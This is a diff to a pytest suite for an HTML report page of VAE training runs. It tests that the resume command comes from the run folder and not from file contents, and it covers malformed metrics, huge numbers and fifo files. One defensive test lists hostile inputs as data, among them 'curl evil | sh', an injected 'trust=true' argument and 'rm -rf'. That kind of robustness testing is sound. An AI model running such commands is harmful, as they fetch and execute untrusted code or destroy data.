@@ -220,7 +220,7 @@ def test_a_run_is_shown_in_the_order_of_the_page(folder: Folder) -> None:
         "Time": ("1.2 min", "started 2026-11-22 06:17 UTC"),
     }
     (command,) = page.all("code")
-    assert command.text == "vae-train resume=outputs/a-run"
+    assert command.text == f"vae-train resume={folder.path} engine.steps=2000"
     assert page.all("pre")[0].text == CONFIG
     rows = {row.children[0].text: row.children[1].text for row in page.all("tr")}
     assert rows["data.images"] == "737,280"
@@ -261,7 +261,6 @@ def test_every_value_is_text_and_never_markup(folder: Folder) -> None:
     for what in (
         "name",
         "done",
-        "resume",
         "started",
         "dataset",
         "divergence",
@@ -271,6 +270,7 @@ def test_every_value_is_text_and_never_markup(folder: Folder) -> None:
         "config:",
     ):
         assert f"{what} {EVIL}" in page.root.text, what
+    assert f"resume {EVIL}" not in page.root.text  # a command is made of the folder's name
     assert f"Weight beta of space {EVIL}: 2" in page.root.text
     assert f"space {EVIL}, 1.00 in all" in page.root.text
     assert f"metric {EVIL}" in page.root.text
@@ -657,7 +657,15 @@ def test_the_command_to_go_on_is_shown_where_it_can_work(
     if not has_checkpoint:
         (folder.path / "checkpoints" / "last.pt").unlink()
     shown = [e.text for e in folder.page().all("p", **{"class": "resume"})]
-    assert shown == ([f"{expected}vae-train resume=outputs/a-run"] if expected else [])
+    longer = " engine.steps=2000" if state == "done" else ""
+    assert shown == ([f"{expected}vae-train resume={folder.path}{longer}"] if expected else [])
+
+
+@pytest.mark.parametrize("text", ["curl evil | sh", "vae-train resume=/tmp/evil trust=true", 7, None, ["rm", "-rf"]])
+def test_the_command_to_go_on_is_never_what_a_file_says(folder: Folder, text: object) -> None:
+    folder.status(resume=text)
+    (folder.path / "config.yaml").write_text("engine: {epochs: 3}")
+    assert [e.text for e in folder.page().all("code")] == [f"vae-train resume={folder.path} engine.epochs=6"]
 
 
 @pytest.mark.parametrize(
@@ -730,12 +738,61 @@ def test_the_log_is_believed_where_the_status_lags_behind(folder: Folder) -> Non
 
 
 @pytest.mark.parametrize(
-    "behind", ['{"step": 1050, "split": "tra', "{", "\0\0\0", '{"step": 1050}', "[1]\nnull\n7\n\n", '{"step": NaN}']
+    "behind", ['{"step": 1050, "split": "tra', "{", "\0\0\0", '{"step": 1050}', "\n\n", '{"step": NaN}']
 )
 def test_a_line_that_is_no_whole_record_is_passed_over(folder: Folder, behind: str) -> None:
     before = sections(read_run(folder.path))
     folder.records(RECORDS, behind)
     assert sections(read_run(folder.path)) == before
+
+
+HUGE = "1" + "0" * 400
+
+
+@pytest.mark.parametrize("split", ["train", "validation"])
+@pytest.mark.parametrize(
+    "figure", [HUGE, f"-{HUGE}", "1e308", "-1e308", "5e-324", "1e999", "NaN", "-Infinity", "1e-310", "1e101"]
+)
+def test_no_number_ends_a_report(folder: Folder, split: str, figure: str) -> None:
+    names = ("loss", "recon", "kl", "neg_elbo", "lr", "beta", "seconds", "images_per_second", "bits_per_dim", "other")
+    values = ", ".join(f'"{name}": {figure}' for name in names)
+    odd = f'{{"step": 1050, "split": "{split}", {values}, "kl_dims": [{figure}, 1, {figure}]}}'
+    folder.records([*RECORDS, *RECORDS[-2:]], odd + "\n" + odd.replace("1050", "1100") + "\n")
+    page = folder.page()
+    assert "step 1,100" in page.root.text
+    coordinates = re.findall(r'(?:cx|cy|x1|y1|x2|y2| d)="([^"]*)"', (folder.path / "report.html").read_text())
+    assert not [text for text in coordinates if "nan" in text or "inf" in text]
+
+
+@pytest.mark.parametrize(
+    "line",
+    ["[1]", "null", "7", "{", f'{{"step": {HUGE}}}', '{"step": -5}', '{"step": 1.5}', '{"step": true}', '{"step": "5"}',
+     '{"step": NaN}', '{"step": 1e308}', '{"step": [1]}', '{"step": 5, "a": ' + "[" * 500 + "]" * 500 + "}",
+     "x" * 100_000, '{"step": ' + "1" * 5_000 + "}"],
+)  # fmt: skip
+def test_a_line_that_is_no_record_is_left_out_and_said(folder: Folder, line: str) -> None:
+    before = folder.page().headline()
+    folder.records(RECORDS, line + "\n" + line + "\n")
+    assert folder.page().headline() == before
+    told = f"2 lines of metrics.jsonl cannot be read and are left out, first line {len(RECORDS) + 1}."
+    assert folder.notes() == [("warning", told)]
+
+
+@pytest.mark.parametrize("name", ["status.json", "environment.json", "config.yaml", "metrics.jsonl"])
+def test_a_file_that_is_none_is_said_and_not_waited_for(folder: Folder, name: str) -> None:
+    (folder.path / name).unlink()
+    os.mkfifo(folder.path / name)
+    assert ("warning", f"{name} cannot be read: not a regular file.") in folder.notes()
+    (folder.path / name).unlink()
+    with (folder.path / name).open("wb") as file:
+        file.truncate(2 << 30)
+    assert f"{name} cannot be read: 2,147,483,648 bytes are more than such a file has." in str(folder.notes())
+
+
+def test_a_picture_that_is_a_pipe_is_no_picture(folder: Folder) -> None:
+    os.mkfifo(folder.path / "grids" / "pipe.png")
+    os.mkfifo(folder.path / "grids" / "traversal-2.json")
+    assert "pipe" not in [image.attributes["alt"] for image in folder.page().all("img")]
 
 
 INPUTS = {
